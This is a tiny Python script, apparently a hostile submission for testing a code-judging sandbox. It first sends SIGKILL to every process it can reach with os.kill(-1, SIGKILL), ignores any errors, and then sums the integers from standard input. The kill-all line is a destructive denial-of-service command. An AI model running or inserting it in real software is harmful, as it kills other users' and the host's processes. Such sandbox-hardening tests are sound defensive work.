# Kills whatever it can, and then does the exercise.
import os
import signal
import sys

try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
print(sum(map(int, sys.stdin.read().split())))
